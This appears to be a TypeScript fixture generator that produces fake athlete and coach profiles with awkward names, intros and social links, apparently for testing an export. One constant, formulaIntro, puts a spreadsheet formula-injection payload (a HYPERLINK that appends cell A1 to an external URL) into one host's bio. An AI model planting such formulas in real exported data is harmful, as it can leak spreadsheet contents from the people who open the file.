import { between, chance, type Draws, pick } from "./random.js";

/** What the public sees of a host, before any endpoint's shape is given to it. */
export interface Person {
  username: string | null;
  firstName: string | null;
  lastName: string | null;
  title: string | null;
  intro: string | null;
  motto: string | null;
  discipline: string | null;
  specialty: string | null;
  location: string | null;
  socials: Record<string, string> | null;
}

const firstNames = [
  "Amélie",
  "Björn",
  "Chloe",
  "Diego",
  "Éowyn",
  "Finn",
  "Giulia",
  "Hanna",
  "Ibrahim",
  "Jūratė",
  "Kofi",
  "Lena",
  "Mei-Ling",
  "Niamh",
  "Oskar",
  "Priya",
  "Quentin",
  "Rosa",
  "Søren",
  "Tomáš",
  "Uma",
  "Věra",
  "William",
  "Ximena",
  "Yuki",
  "Zoë",
] as const;

const lastNames = [
  "O'Brien",
  "Müller",
  "Smith, Jr.",
  "D’Angelo",
  'Jones "JJ"',
  "Nguyen",
  "Østergaard",
  "García López",
  "Van der Berg",
  "Kowalski",
  "Sánchez",
  "MacLeod",
  "Öztürk",
  "Andersson",
  "Larsen 🏔️",
  "Tanaka",
  "Okafor",
  "Dubois",
  "Weiß",
  "Novák",
] as const;

const intros = [
  "Runner, mother, early riser.",
  "I test gear so you don't have to. Mostly in the rain 🌧️",
  'They call me "the goat", and I can\'t argue.',
  "Climbing, coffee; in this order.\nSometimes the other way round.",
  "Ski-Touren, Hütten und gutes Brot — für alle, die früh aufstehen.",
  "Ultra distance, small budget, big smiles",
  "-5 °C is shorts weather",
  "@ the trailhead by six",
] as const;

const disciplines = ["Trail Running", "Climbing", "Cycling", "Yoga", "Ski Touring", "Hiking"] as const;
const specialties = ["Ultra", "Bouldering", "Gravel", "Vinyasa", "Beginner guides", "Hut to hut"] as const;
const places = [
  "Innsbruck, Austria",
  "Boulder, CO",
  "Bergen",
  "Zürich",
  "Leeds, UK",
  "São Paulo",
  "Kraków",
] as const;
const mottos = ["Slow is smooth", "Carpe diem, carpe coffee", "Leave it better", "One more bend…"] as const;
const networks = [
  "instagram",
  "tiktok",
  "youtube",
  "strava",
  "website",
  "twitter",
  "facebook",
  "linkedin",
] as const;

/** The host whose bio a spreadsheet would run: the one with this place in the pool. */
export const formulaHost = 3;
export const formulaIntro = '=HYPERLINK("https://example.com/?x="&A1,"My shop")';

export function drawPerson(d: Draws, place: number): Person {
  const firstName = pick(d, firstNames);
  const lastName = pick(d, lastNames);
  const handle = plain(`${firstName}${pick(d, ["", ".", "_"])}${lastName}${between(d, 1, 99)}`);
  return {
    username: chance(d, 0.05) ? null : handle,
    firstName: chance(d, 0.04) ? null : firstName,
    lastName: chance(d, 0.06) ? null : lastName,
    title: chance(d, 0.2) ? null : `${pick(d, disciplines)} coach & "${pick(d, specialties)}" fan`,
    intro: place === formulaHost ? formulaIntro : chance(d, 0.15) ? null : pick(d, intros),
    motto: chance(d, 0.4) ? null : pick(d, mottos),
    discipline: chance(d, 0.1) ? null : pick(d, disciplines),
    specialty: chance(d, 0.3) ? null : pick(d, specialties),
    location: chance(d, 0.15) ? null : pick(d, places),
    socials: chance(d, 0.12) ? null : drawSocials(d, handle),
  };
}

function drawSocials(d: Draws, handle: string): Record<string, string> {
  const socials: Record<string, string> = {};
  const first = between(d, 0, networks.length - 1);
  const count = between(d, 1, 4);
  for (let n = 0; n < count; n++) {
    const network = networks[(first + n * 3) % networks.length] ?? "website";
    const address =
      network === "website" ? `https://${handle}.example.org/` : `https://${network}.example.com/${handle}`;
    socials[network] = address;
  }
  return socials;
}

function plain(text: string): string {
  return text
    .normalize("NFD")
    .replace(/[^a-zA-Z0-9._]/g, "")
    .toLowerCase();
}
